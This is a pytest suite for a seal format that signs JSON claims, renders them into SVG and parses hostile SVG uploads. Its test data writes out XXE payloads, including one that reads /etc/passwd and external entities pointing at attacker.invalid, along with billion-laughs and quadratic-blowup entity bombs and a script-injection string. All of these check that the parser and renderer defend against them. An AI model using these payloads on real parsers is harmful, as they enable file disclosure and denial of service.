"""Tests for gbx_client.seal_format (shared by the service and the runner client): seal.json canonical form, seal.svg render and hostile-document parsing."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest

from gbx_client.seal_format import (
    MAX_SEAL_BYTES,
    OPTIONAL_CLAIMS,
    REQUIRED_CLAIMS,
    SEAL_NS,
    SVG_NS,
    SealDocumentInvalid,
    SealElement,
    SealPayloadInvalid,
    SealTooLarge,
    b64url_decode,
    b64url_encode,
    canonical_json,
    decode_payload,
    parse_seal_svg,
    render_seal_svg,
)

KEY = "projects/gbx-prod/locations/global/keyRings/seals/cryptoKeys/seal/cryptoKeyVersions/3"
DIGEST = "3f9a1c0b7e6d5a4f" + "0123456789abcdef" * 2 + "89abcdef01234567"
SIGNATURE = bytes.fromhex("3045022100") + bytes(range(32)) + bytes.fromhex("0220") + bytes(range(32, 64))


def make_claims(**overrides: Any) -> dict[str, Any]:
    """Build a complete, valid seal.json claim set, with overrides."""
    claims: dict[str, Any] = {
        "v": 1,
        "seal_id": "q3Jx8WZrT0mB5vK2nYdL7A",
        "run_id": "nightly-2024-05-01.r42",
        "principal": "build-bot@acme.iam.gserviceaccount.com",
        "project_id": "acme-analytics-prod",
        "container_image": f"europe-west1-docker.pkg.dev/acme/pipelines/extract:v2@sha256:{DIGEST}",
        "inputs_sha256": "a" * 64,
        "outputs_sha256": "b" * 64,
        "consumed_at": "2024-05-01T12:00:00Z",
        "started_at": "2024-05-01T12:00:05Z",
        "completed_at": "2024-05-01T12:34:56.789Z",
        "issuer": "gbx-prod",
        "key": KEY,
    }
    claims.update(overrides)
    return claims


def render(claims: dict[str, Any] | None = None, **kwargs: Any) -> str:
    """Render a seal.svg for the claims (default: make_claims())."""
    payload = canonical_json(make_claims() if claims is None else claims)
    return render_seal_svg(payload=payload, signature=SIGNATURE, key=kwargs.pop("key", KEY), **kwargs)


def seal_tag(**attributes: str) -> str:
    """A seal element with valid attributes unless overridden (None drops one)."""
    values: dict[str, str | None] = {
        "version": "1",
        "alg": "ES256",
        "key": KEY,
        "payload": b64url_encode(canonical_json(make_claims())),
        "signature": b64url_encode(SIGNATURE),
    }
    values.update(attributes)
    attrs = " ".join(f'{name}="{value}"' for name, value in values.items() if value is not None)
    return f'<gbx:seal xmlns:gbx="{SEAL_NS}" {attrs}/>'


def svg_doc(inner: str, *, prolog: str = "") -> bytes:
    """A minimal SVG document around inner markup."""
    return f'{prolog}<svg xmlns="{SVG_NS}" width="10" height="10">{inner}</svg>'.encode()


def visible_texts(svg: str) -> list[str]:
    """The text of every <text> element, as a viewer would draw it (our own output, parsed with the stdlib)."""
    root = ET.fromstring(svg.encode("utf-8"))
    return ["".join(element.itertext()) for element in root.iter(f"{{{SVG_NS}}}text")]


# --- canonical_json ----------------------------------------------------------


def test_canonical_json_sorts_keys_at_every_level_without_whitespace() -> None:
    assert canonical_json({"b": 1, "a": {"d": [1, 2], "c": None}}) == b'{"a":{"c":null,"d":[1,2]},"b":1}'


def test_canonical_json_keeps_unicode_as_utf8_not_escapes() -> None:
    assert canonical_json({"name": "Zo\u00eb \u6f22"}) == '{"name":"Zo\u00eb \u6f22"}'.encode("utf-8")


def test_canonical_json_escapes_what_json_requires() -> None:
    assert canonical_json({"s": 'a"b\\c\n'}) == b'{"s":"a\\"b\\\\c\\n"}'


def test_canonical_json_refuses_nan() -> None:
    with pytest.raises(ValueError):
        canonical_json({"x": float("nan")})


# --- base64url -----------------------------------------------------------------


@pytest.mark.parametrize("data", [b"", b"f", b"fo", b"foo", b"\xfb\xff", bytes(range(256))])
def test_b64url_round_trips_without_padding(data: bytes) -> None:
    text = b64url_encode(data)
    assert "=" not in text
    assert b64url_decode(text) == data


def test_b64url_uses_the_url_safe_alphabet() -> None:
    assert b64url_encode(b"\xfb\xff\xbf") == "-_-_"


@pytest.mark.parametrize(
    "text",
    [
        "Zm8=",  # padding
        "Zg==",  # padding
        "+/8",  # standard alphabet
        "-_9",  # unused trailing bits set: decodes like "-_8" but is another text
        "QR",  # likewise, for "QQ"
        "A",  # a length no encoding produces
        "Zm 9v",  # whitespace
        "Zm9v\n",  # a trailing newline
        "Zm9v\u00e9",  # outside ASCII
        "Zm9v.",  # outside the alphabet
    ],
)
def test_b64url_decode_rejects_non_canonical_text(text: str) -> None:
    with pytest.raises(ValueError):
        b64url_decode(text)


def test_b64url_decode_accepts_the_canonical_neighbours() -> None:
    assert b64url_decode("-_8") == b"\xfb\xff"
    assert b64url_decode("QQ") == b"A"


# --- decode_payload ------------------------------------------------------------


def encoded(raw: bytes) -> str:
    """base64url of raw payload bytes."""
    return b64url_encode(raw)


def test_decode_payload_accepts_a_canonical_payload() -> None:
    claims = make_claims()
    raw = canonical_json(claims)
    assert decode_payload(encoded(raw)) == (claims, raw)


def test_decode_payload_accepts_the_optional_manifest_claim() -> None:
    claims = make_claims(run_manifest_sha256="c" * 64)
    assert decode_payload(encoded(canonical_json(claims)))[0]["run_manifest_sha256"] == "c" * 64


def test_claim_sets_are_the_documented_ones() -> None:
    assert set(make_claims()) == REQUIRED_CLAIMS
    assert {"run_manifest_sha256"} == OPTIONAL_CLAIMS


def _without(*names: str) -> dict[str, Any]:
    claims = make_claims()
    for name in names:
        del claims[name]
    return claims


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (json.dumps(make_claims(), sort_keys=True).encode(), "payload is not canonical JSON"),  # spaces
        (json.dumps(make_claims(), separators=(",", ":")).encode(), "payload is not canonical JSON"),  # order
        (json.dumps(make_claims(), sort_keys=True, separators=(",", ":")).encode() + b"\n", "payload is not canonical JSON"),
        (
            json.dumps(make_claims(principal="zo\u00eb@x.io"), sort_keys=True, separators=(",", ":")).encode(),
            "payload is not canonical JSON",  # \u00eb escaped instead of raw UTF-8
        ),
        (b'{"v":1,"v":1}', "payload is not canonical JSON"),  # duplicate keys
        (b'{"s":"\\ud800"}', "payload is not canonical JSON"),  # lone surrogate
        (canonical_json(_without("principal", "key")), "payload lacks claims: key, principal"),
        (canonical_json(make_claims(extra="x")), "payload has unknown claims: extra"),
        (canonical_json(make_claims(v=2)), "payload version is not 1"),
        (canonical_json(make_claims(v=True)), "payload version is not 1"),
        (canonical_json(make_claims(v="1")), "payload version is not 1"),
        (canonical_json(make_claims(principal=5)), "payload claims are not strings: principal"),
        (canonical_json(make_claims(run_manifest_sha256=None)), "payload claims are not strings: run_manifest_sha256"),
        (b"[1,2]", "payload is not a JSON object"),
        (b'"seal"', "payload is not a JSON object"),
        (b"not json", "payload is not UTF-8 JSON"),
        (b'{"v":NaN}', "payload is not UTF-8 JSON"),
        (b"\xff\xfe{}", "payload is not UTF-8 JSON"),
        ("{}".encode("utf-16"), "payload is not UTF-8 JSON"),
        (b"[" * 100_000, "payload is not UTF-8 JSON"),
    ],
)
def test_decode_payload_rejects_with_a_reason(raw: bytes, reason: str) -> None:
    with pytest.raises(SealPayloadInvalid) as excinfo:
        decode_payload(encoded(raw))
    assert excinfo.value.reason == reason
    assert str(excinfo.value) == reason


@pytest.mark.parametrize("payload", ["!!!", "e30=", "e30\n", "", "A"])
def test_decode_payload_rejects_bad_base64(payload: str) -> None:
    with pytest.raises(SealPayloadInvalid, match="^payload is not "):
        decode_payload(payload)


def test_decode_payload_bounds_the_unknown_claim_names_it_reports() -> None:
    claims = make_claims(**{f"x{i}" + "y" * 500: "" for i in range(20)})
    with pytest.raises(SealPayloadInvalid) as excinfo:
        decode_payload(encoded(canonical_json(claims)))
    assert excinfo.value.reason.startswith("payload has unknown claims: x0")
    assert excinfo.value.reason.endswith("(and 15 more)")
    assert len(excinfo.value.reason) < 400


def test_payload_errors_are_verification_results_not_document_errors() -> None:
    assert issubclass(SealPayloadInvalid, ValueError)
    assert not issubclass(SealPayloadInvalid, SealDocumentInvalid)


def test_the_format_module_imports_nothing_of_the_service() -> None:
    import gbx_client.seal_format as module

    source = Path(module.__file__).read_text(encoding="utf-8")
    assert "shared" not in {line.split()[1].split(".")[0] for line in source.splitlines() if line.startswith(("import ", "from "))}


# --- render and round trip -----------------------------------------------------


def test_render_then_parse_round_trips() -> None:
    claims = make_claims()
    element = parse_seal_svg(render(claims).encode("utf-8"))
    assert element == SealElement(
        version="1",
        alg="ES256",
        key=KEY,
        payload=b64url_encode(canonical_json(claims)),
        signature=b64url_encode(SIGNATURE),
    )
    assert decode_payload(element.payload) == (claims, canonical_json(claims))
    assert b64url_decode(element.signature) == SIGNATURE


def test_render_is_deterministic() -> None:
    assert render() == render()
    assert render() != render(make_claims(seal_id="another"))


def test_render_is_a_standalone_svg_11_document() -> None:
    svg = render()
    assert svg.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg"')
    root = ET.fromstring(svg.encode("utf-8"))
    assert root.tag == f"{{{SVG_NS}}}svg"
    assert root.get("version") == "1.1"
    width, height = int(root.get("width")), int(root.get("height"))
    assert root.get("viewBox") == f"0 0 {width} {height}"
    title = root.find(f"{{{SVG_NS}}}title")
    assert title is not None and title.text == "Sealed run q3Jx8WZrT0mB5vK2nYdL7A \u2014 GBX Entitlements"
    # Features that break rsvg-convert, leak requests or need a stylesheet are absent.
    for forbidden in ("<style", "foreignObject", "var(", "href", "<image", "@import", "<!DOCTYPE", "<script"):
        assert forbidden not in svg


def test_render_has_the_exact_metadata_element() -> None:
    claims = make_claims()
    expected = (
        f'<metadata><gbx:seal xmlns:gbx="urn:gbx:seal:v1" version="1" alg="ES256" key="{KEY}" '
        f'payload="{b64url_encode(canonical_json(claims))}" signature="{b64url_encode(SIGNATURE)}"/></metadata>'
    )
    svg = render(claims)
    assert svg.count(expected) == 1
    assert svg.count("<metadata>") == 1


def test_render_draws_the_visible_lines_from_the_payload() -> None:
    texts = visible_texts(render())
    assert "GBX ENTITLEMENTS" in texts
    assert "Sealed run" in texts
    for expected in (
        "q3Jx8WZrT0mB5vK2nYdL7A",
        "nightly-2024-05-01.r42",
        "sha256:3f9a1c0b7e6d5a4f\u202601234567",  # DIGEST's first 16 and last 8 hex digits
        "acme-analytics-prod",
        "build-bot@acme.iam.gserviceaccount.com",
        "2024-05-01 12:34:56 UTC",
        "gbx-prod",
    ):
        assert expected in texts
    # The image shares its line with the QR code: both ends of its name stay, the middle is ellipsized.
    [image] = [text for text in texts if text.startswith("europe-west1-docker.")]
    assert image.endswith("extract:v2") and "\u2026" in image
    assert not any(DIGEST in text for text in texts)  # the full digest only in the payload


def test_render_ellipsizes_a_long_image_in_the_middle() -> None:
    image = "europe-west1-docker.pkg.dev/" + "very-long-segment/" * 12 + f"extract:v2.14.0@sha256:{DIGEST}"
    texts = visible_texts(render(make_claims(container_image=image)))
    [shown] = [text for text in texts if text.startswith("europe-west1-docker")]
    assert "\u2026" in shown
    assert shown.endswith("extract:v2.14.0")
    assert len(shown) < 60


def test_render_escapes_claims_in_visible_text() -> None:
    hostile = 'x<script>alert("&")</script>&amp;'
    svg = render(make_claims(principal=hostile, issuer="a & b", seal_id="<s&>"))
    assert "<script>" not in svg
    texts = visible_texts(svg)
    assert any(text.startswith("x<script>alert(") for text in texts)  # shown literally, not as markup
    assert "a & b" in texts
    root = ET.fromstring(svg.encode("utf-8"))
    assert root.findtext(f"{{{SVG_NS}}}title") == "Sealed run <s&> \u2014 GBX Entitlements"
    assert "Principal: x<script>" in root.findtext(f"{{{SVG_NS}}}desc")
    assert decode_payload(parse_seal_svg(svg.encode("utf-8")).payload)[0]["principal"] == hostile


def test_render_replaces_characters_xml_cannot_carry_or_that_disguise_text() -> None:
    svg = render(make_claims(issuer="a\x01b\u202ec\ufffe"))
    assert "a\ufffdb\ufffdc\ufffd" in visible_texts(svg)
    parse_seal_svg(svg.encode("utf-8"))  # still a well-formed, usable seal


def test_render_carries_any_key_exactly() -> None:
    key = 'odd "key" & <co>\twith\nwhitespace'
    assert parse_seal_svg(render(key=key).encode("utf-8")).key == key


def test_render_refuses_a_key_xml_cannot_carry() -> None:
    with pytest.raises(ValueError):
        render(key="bad\x00key")


def test_render_draws_any_payload_so_broken_seals_can_be_built() -> None:
    svg = render_seal_svg(payload=b"not json", signature=b"", key=KEY)
    element = parse_seal_svg(svg.encode("utf-8"))
    assert b64url_decode(element.payload) == b"not json"
    assert "\u2014" in visible_texts(svg)
    with pytest.raises(SealPayloadInvalid):
        decode_payload(element.payload)


def test_render_stays_small_whatever_the_claims_hold() -> None:
    svg = render(make_claims(principal="p" * 20_000, issuer="\u6f22" * 20_000))
    # The payload itself is most of it; the visible and accessible text stays bounded.
    assert len(svg.encode("utf-8")) < len(b64url_encode(canonical_json(make_claims()))) + 150_000
    parse_seal_svg(svg.encode("utf-8"))


# --- parse: documents that are not usable seals --------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";" if i else "&lol;") * 10}">' for i in range(10))
    + f']><svg xmlns="{SVG_NS}">&lol9;</svg>'
).encode()
QUADRATIC_BLOWUP = (
    f'<!DOCTYPE svg [<!ENTITY a "{"x" * 40_000}">]><svg xmlns="{SVG_NS}">' + "&a;" * 60_000 + "</svg>"
).encode()
METADATA_SEAL = f"<metadata>{seal_tag()}</metadata>"


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        pytest.param(
            svg_doc("&xxe;", prolog='<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
            "DTD",
            id="xxe-system-entity",
        ),
        pytest.param(
            svg_doc("", prolog='<!DOCTYPE svg [<!ENTITY % ext SYSTEM "http://attacker.invalid/x.dtd"> %ext;]>'),
            "DTD",
            id="xxe-parameter-entity",
        ),
        pytest.param(BILLION_LAUGHS, "DTD", id="billion-laughs"),
        pytest.param(QUADRATIC_BLOWUP, "DTD", id="quadratic-blowup"),
        pytest.param(
            svg_doc(METADATA_SEAL, prolog='<!DOCTYPE svg SYSTEM "http://attacker.invalid/svg.dtd">'),
            "DTD",
            id="external-dtd",
        ),
        pytest.param(
            svg_doc(
                METADATA_SEAL,
                prolog='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
            ),
            "DTD",
            id="public-svg-doctype",
        ),
        pytest.param(svg_doc("&undeclared;" + METADATA_SEAL), "well-formed", id="undeclared-entity"),
        pytest.param(b"", "well-formed", id="empty"),
        pytest.param(b"this is not xml", "well-formed", id="not-xml"),
        pytest.param(b"\x89PNG\r\n\x1a\n\x00\x00", "well-formed", id="png"),
        pytest.param(svg_doc(METADATA_SEAL)[:-3], "well-formed", id="truncated"),
        pytest.param(b"<svg>\x00</svg>", "well-formed", id="nul-byte"),
        pytest.param(
            svg_doc(METADATA_SEAL, prolog='<?xml version="1.0" encoding="x-no-such-encoding"?>'),
            "well-formed",
            id="unknown-encoding",
        ),
        pytest.param(
            svg_doc(METADATA_SEAL, prolog='<?xml version="1.0" encoding="shift_jis"?>'),
            "well-formed",
            id="multibyte-encoding",
        ),
        pytest.param(
            svg_doc(METADATA_SEAL, prolog='<?xml version="1.0" encoding="rot13"?>'),
            "well-formed",
            id="non-text-codec",
        ),
        pytest.param(
            f'<html xmlns="{SVG_NS}"><metadata>{seal_tag()}</metadata></html>'.encode(), "not an SVG", id="html-root"
        ),
        pytest.param(f"<svg><metadata>{seal_tag()}</metadata></svg>".encode(), "not an SVG", id="svg-without-namespace"),
        pytest.param(svg_doc("<metadata/>"), "no seal element", id="no-seal"),
        pytest.param(svg_doc(f"<metadata>{seal_tag()}{seal_tag()}</metadata>"), "more than one", id="two-seals"),
        pytest.param(
            svg_doc(f"<metadata>{seal_tag()}</metadata><metadata>{seal_tag()}</metadata>"),
            "more than one",
            id="two-metadata-seals",
        ),
        pytest.param(
            svg_doc(f"<metadata>{seal_tag().replace(SEAL_NS, 'urn:gbx:seal:v2')}</metadata>"),
            "no seal element",
            id="seal-in-wrong-namespace",
        ),
        pytest.param(
            svg_doc('<metadata><seal version="1" alg="ES256" key="k" payload="e30" signature="AA"/></metadata>'),
            "no seal element",
            id="seal-without-namespace",
        ),
        pytest.param(svg_doc(seal_tag()), "not inside <metadata>", id="seal-outside-metadata"),
        pytest.param(svg_doc(f"<g>{seal_tag()}</g>"), "not inside <metadata>", id="seal-in-group"),
        pytest.param(
            svg_doc(f'<metadata xmlns="urn:other">{seal_tag()}</metadata>'),
            "not inside <metadata>",
            id="metadata-in-wrong-namespace",
        ),
        pytest.param(svg_doc(f"<metadata>{seal_tag(version='2')}</metadata>"), "version", id="version-2"),
        pytest.param(svg_doc(f"<metadata>{seal_tag(alg='none')}</metadata>"), "algorithm", id="alg-none"),
        pytest.param(svg_doc(f"<metadata>{seal_tag(alg='es256')}</metadata>"), "algorithm", id="alg-lowercase"),
        pytest.param(
            svg_doc("<g>" * 80 + f"<metadata>{seal_tag()}</metadata>" + "</g>" * 80), "nested too deeply", id="deep-80"
        ),
        pytest.param(
            # As deep as 256 KiB allows with short tags: parsed, then refused without recursion.
            svg_doc("<g>" * 37_000 + "</g>" * 37_000),
            "nested too deeply",
            id="deep-37000",
        ),
    ],
)
def test_unusable_documents_are_invalid_seals(document: bytes, reason: str) -> None:
    assert len(document) <= MAX_SEAL_BYTES
    with pytest.raises(SealDocumentInvalid) as excinfo:
        parse_seal_svg(document)
    assert reason in excinfo.value.reason


@pytest.mark.parametrize("attribute", ["version", "alg", "key", "payload", "signature"])
def test_a_seal_missing_an_attribute_is_invalid(attribute: str) -> None:
    with pytest.raises(SealDocumentInvalid, match=f"lacks attributes: {attribute}$"):
        parse_seal_svg(svg_doc(f"<metadata>{seal_tag(**{attribute: None})}</metadata>"))


def test_a_namespaced_attribute_does_not_stand_in_for_a_plain_one() -> None:
    tag = seal_tag(version=None).replace("<gbx:seal ", '<gbx:seal gbx:version="1" ')
    with pytest.raises(SealDocumentInvalid, match="lacks attributes: version"):
        parse_seal_svg(svg_doc(f"<metadata>{tag}</metadata>"))


def test_parse_errors_are_chained_to_their_cause() -> None:
    with pytest.raises(SealDocumentInvalid) as excinfo:
        parse_seal_svg(b"<svg")
    assert isinstance(excinfo.value.__cause__, ET.ParseError)


def test_a_seal_in_an_otherwise_busy_document_is_found() -> None:
    document = svg_doc(
        "<!-- a comment --><?pi data?><title>t</title><g><rect width='1' height='1'/></g>"
        f"<metadata><other xmlns='urn:x'/>{seal_tag()}</metadata><text>&lt;&amp;</text>"
    )
    assert parse_seal_svg(document).key == KEY


# --- parse: size limit ----------------------------------------------------------


def test_an_oversized_upload_is_refused_before_parsing() -> None:
    with pytest.raises(SealTooLarge):
        parse_seal_svg(b"<" * (MAX_SEAL_BYTES + 1))  # not XML either: size wins


def test_a_100000_level_document_is_refused_by_size() -> None:
    with pytest.raises(SealTooLarge):
        parse_seal_svg(svg_doc("<g>" * 100_000 + "</g>" * 100_000))


def test_a_seal_of_exactly_the_limit_is_parsed() -> None:
    svg = render().encode("utf-8")
    filler = b"<!--" + b"x" * (MAX_SEAL_BYTES - len(svg) - 7) + b"-->"
    document = svg[:-7] + filler + svg[-7:]  # inside the root, before "</svg>\n"
    assert len(document) == MAX_SEAL_BYTES
    assert parse_seal_svg(document).key == KEY
    with pytest.raises(SealTooLarge):
        parse_seal_svg(document + b" ")
